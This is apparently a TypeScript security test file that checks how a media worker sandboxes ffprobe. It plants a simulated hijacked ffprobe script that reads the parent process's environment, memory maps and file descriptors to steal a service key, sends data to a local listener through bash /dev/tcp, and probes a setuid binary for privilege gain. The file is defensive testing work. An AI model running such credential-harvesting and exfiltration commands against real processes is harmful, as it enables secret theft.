/**
 * A decoder that is taken over: a program in ffprobe's place that does what an attacker would, started by the worker's
 * own command line on an uploaded file. It looks for the keys in the worker's process, calls a server, and asks a setuid
 * program for rights. As root and as an ordinary user; with everything that this machine allows, and without.
 */
import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { chmod, chown, copyFile, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { locateTools } from '@supabase-media/media/locate-tools';
import { openClipShop } from '@supabase-media/test-support/clips';
import { ROOT } from '@supabase-media/test-support/repository';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const CLI = join(ROOT, 'workers/media/dist/cli.js');
const KEY = 'sb_secret_the_key_of_this_test';
const NOBODY = 65_534;
const isRoot = process.getuid?.() === 0;

/** Who the worker runs as. Only root can be someone else. */
const USERS: readonly (readonly [name: string, uid: number])[] = isRoot
  ? [
      ['root', 0],
      ['an ordinary user', NOBODY],
    ]
  : [['the user of these tests', process.getuid?.() ?? -1]];

let folder: string;
let clip: string;
let server: Server;
let attacker: string;
let calls = 0;

/** Programs that the attack and the worker use; the last are what isolates. */
const PLAIN = ['sh', 'bash', 'cat', 'readlink', 'ffmpeg', 'ffprobe'] as const;
const UTILITIES = ['prlimit', 'setpriv', 'unshare'] as const;

const pathOf = (program: string): string =>
  spawnSync('sh', ['-c', `command -v ${program}`], { encoding: 'utf8' }).stdout.trim();

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'media-isolation-'));
  await chmod(folder, 0o755);
  const shop = await openClipShop(await locateTools());
  clip = join(folder, 'clip.mp4');
  await copyFile(await shop.clip('web-ready.mp4'), clip);
  await shop.close();
  await chmod(clip, 0o644);
  server = createServer((socket) => {
    calls += 1;
    socket.on('error', () => {}).destroy();
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as { port: number };
  // A setuid program of root that says whose rights it has; only root can make one.
  const setuid = join(folder, 'setuid-id');
  await copyFile(pathOf('id'), setuid);
  await chmod(setuid, isRoot ? 0o4755 : 0o755);
  attacker = join(folder, 'taken-over-ffprobe');
  await writeFile(
    attacker,
    `#!/bin/sh
case "$*" in *-version*) exec ffprobe "$@";; esac
cd "$(cat ${join(folder, 'loot-folder')})" || exit 9
cat /proc/$PPID/environ > environment 2>/dev/null
cat /proc/$PPID/maps > memory 2>/dev/null
readlink /proc/$PPID/fd/1 > files 2>/dev/null
bash -c 'echo stolen > /dev/tcp/127.0.0.1/${port}' 2>/dev/null
${setuid} -u > user
cat /proc/self/status > status
ulimit -v > address-space
echo done > done
exit 1
`,
    { mode: 0o755 },
  );
}, 120_000);
afterAll(async () => {
  server?.close();
  await rm(folder, { recursive: true, force: true });
});

interface Circumstances {
  readonly uid: number;
  /** The folders of programs; those of the tests by default. */
  readonly path?: string;
  /** The node that runs the worker. */
  readonly node?: string;
  readonly ffprobe?: string;
}

/** Runs the worker's command line, with a key in its environment, and nothing of ours but the PATH. */
async function media(args: readonly string[], { uid, path, node, ffprobe }: Circumstances) {
  const environment = {
    PATH: path ?? process.env.PATH,
    SUPABASE_SERVICE_ROLE_KEY: KEY,
    LOG_LEVEL: 'silent',
    WORK_DIR: join(folder, `work-${uid}`),
    ...(ffprobe !== undefined && { FFPROBE_PATH: ffprobe }),
  };
  // env: as in a container, whoever starts node has given up the rights of root before.
  const child = spawn('/usr/bin/env', [node ?? process.execPath, '--', CLI, ...args, '--json'], {
    env: environment,
    cwd: '/',
    stdio: ['ignore', 'pipe', 'pipe'],
    ...(isRoot && { uid, gid: uid }),
  });
  let stdout = '';
  let stderr = '';
  child.stdout.setEncoding('utf8').on('data', (text) => {
    stdout += text;
  });
  child.stderr.setEncoding('utf8').on('data', (text) => {
    stderr += text;
  });
  const [exitCode] = (await once(child, 'close')) as [number | null];
  return { exitCode, stdout, stderr };
}

/** The codes of what the doctor misses in the isolation of ffmpeg. */
async function missing(circumstances: Circumstances): Promise<readonly string[]> {
  const { stdout } = await media(['doctor'], circumstances);
  const { findings } = JSON.parse(stdout) as { findings: { check: string; status: string; code: string }[] };
  expect(findings.filter(({ check }) => check === 'isolation')).toHaveLength(5);
  return findings.filter(({ check, status }) => check === 'isolation' && status !== 'ok').map(({ code }) => code);
}

/** What the taken over program got hold of. */
async function attack(circumstances: Circumstances) {
  const loot = await mkdtemp(join(folder, 'loot-'));
  await chmod(loot, 0o777);
  await writeFile(join(folder, 'loot-folder'), loot);
  calls = 0;
  const result = await media(['process', clip, '--out', join(loot, 'out')], { ...circumstances, ffprobe: attacker });
  const read = (name: string) => readFile(join(loot, name), 'utf8').catch(() => '');
  expect(await read('done'), result.stdout + result.stderr).toBe('done\n');
  const status = await read('status');
  const field = (name: string) => new RegExp(`^${name}:\\s*(\\S+)`, 'm').exec(status)?.[1];
  return {
    key: (await read('environment')).includes(KEY),
    memory: (await read('memory')) !== '',
    files: (await read('files')) !== '',
    called: calls > 0,
    user: Number(await read('user')),
    noNewPrivileges: field('NoNewPrivs') === '1',
    addressSpace: (await read('address-space')).trim(),
    capabilities: BigInt(`0x${field('CapEff') ?? 'f'}`),
  };
}

/** A PATH without some of the utilities. */
async function pathWithout(...absent: readonly (typeof UTILITIES)[number][]): Promise<string> {
  const path = await mkdtemp(join(folder, 'path-'));
  await chmod(path, 0o755);
  for (const program of [...PLAIN, ...UTILITIES.filter((name) => !absent.includes(name))])
    await symlink(pathOf(program), join(path, program));
  return path;
}

/** Whether a user may do something, tried without any code of the product. */
const may = (uid: number, program: string, ...args: string[]): boolean =>
  spawnSync(program, [...args, 'true'], isRoot ? { uid, gid: uid } : {}).status === 0;

describe.each(USERS)('run by %s', (_, uid) => {
  const networkFlags = uid === 0 ? ['--net'] : ['--user', '--map-current-user', '--net'];
  const hasNetworks = may(uid, 'unshare', ...networkFlags);
  const hasSetpriv = may(uid, 'setpriv', '--no-new-privs');
  const dropsAll = uid === 0 && may(uid, 'setpriv', '--bounding-set', '-all');

  it('is told what holds here', async () => {
    expect(await missing({ uid })).toEqual([
      ...(may(uid, 'prlimit', '--core=0') ? [] : ['isolation_no_limits']),
      ...(hasSetpriv ? [] : ['isolation_privileges']),
      ...(hasNetworks ? [] : ['isolation_network']),
      ...(hasNetworks || dropsAll ? [] : ['isolation_keys']),
      ...(uid === 0 ? ['runs_as_root'] : []),
    ]);
  });

  it('gets no key, calls nobody, and gains no rights, where the doctor says so', async () => {
    const lacks = await missing({ uid });
    const got = await attack({ uid });
    if (!lacks.includes('isolation_keys')) expect(got).toMatchObject({ key: false, memory: false, files: false });
    if (!lacks.includes('isolation_network')) expect(got.called).toBe(false);
    if (!lacks.includes('isolation_privileges')) expect(got).toMatchObject({ user: uid, noNewPrivileges: true });
    if (!lacks.includes('isolation_no_limits')) expect(got.addressSpace).toMatch(/^\d+$/);
    // CAP_DAC_OVERRIDE, and nothing else of root.
    if (dropsAll) expect(got.capabilities).toBe(2n);
  });

  it('would get all of it without what isolates, and the doctor says that', async () => {
    const path = await pathWithout(...UTILITIES);
    expect(await missing({ uid, path })).toEqual([
      'isolation_no_limits',
      'isolation_privileges',
      'isolation_network',
      'isolation_keys',
      ...(uid === 0 ? ['runs_as_root'] : []),
    ]);
    expect(await attack({ uid, path })).toMatchObject({
      key: true,
      memory: true,
      files: true,
      called: true,
      noNewPrivileges: false,
      addressSpace: 'unlimited',
      ...(isRoot && { user: 0 }),
    });
  });

  it('keeps what is left where there are no namespaces', async () => {
    const path = await pathWithout('unshare');
    const lacks = await missing({ uid, path });
    expect(lacks).toContain('isolation_network');
    expect(lacks.includes('isolation_keys')).toBe(!dropsAll);
    expect(await attack({ uid, path })).toMatchObject({
      called: true,
      key: !dropsAll,
      user: uid,
      noNewPrivileges: hasSetpriv,
    });
  });

  it.runIf(uid !== 0 && hasNetworks)('gets no key where a user namespace is all that may be had', async () => {
    // As Ubuntu 24.04 does by AppArmor.
    const path = await pathWithout('unshare');
    const refusal = 'echo "unshare: unshare failed: Operation not permitted" >&2; exit 1';
    const script = `#!/bin/sh\ncase "$*" in *--net*) ${refusal};; esac\nexec ${pathOf('unshare')} "$@"\n`;
    await writeFile(join(path, 'unshare'), script, { mode: 0o755 });
    expect(await missing({ uid, path })).toEqual(['isolation_network']);
    expect(await attack({ uid, path })).toMatchObject({ key: false, memory: false, files: false, called: true });
  });

  it.runIf(isRoot && uid !== 0)('gets no key from a node that only root may read, as in the image', async () => {
    const node = join(folder, 'node');
    await copyFile(process.execPath, node);
    await chmod(node, 0o111);
    const path = await pathWithout('unshare');
    expect(await missing({ uid, path, node })).toEqual(['isolation_network']);
    expect(await attack({ uid, path, node })).toMatchObject({ key: false, memory: false, files: false, called: true });
  });

  it('leaves ffmpeg its work', async () => {
    const place = await mkdtemp(join(folder, 'place-'));
    const source = join(place, 'private.mp4');
    await copyFile(clip, source);
    await chmod(source, 0o600);
    // As on a volume that belongs to another user than a worker that runs as root.
    if (isRoot) for (const path of [place, source]) await chown(path, NOBODY, NOBODY);
    await mkdir(join(place, 'out'), { mode: 0o700 });
    if (isRoot) await chown(join(place, 'out'), NOBODY, NOBODY);
    const { exitCode, stdout } = await media(
      ['process', source, '--out', join(place, 'out'), '--outputs', 'video,poster'],
      { uid },
    );
    expect(exitCode, stdout).toBe(0);
    expect((await readFile(join(place, 'out', 'video.mp4'))).length).toBeGreaterThan(1000);
  });
});
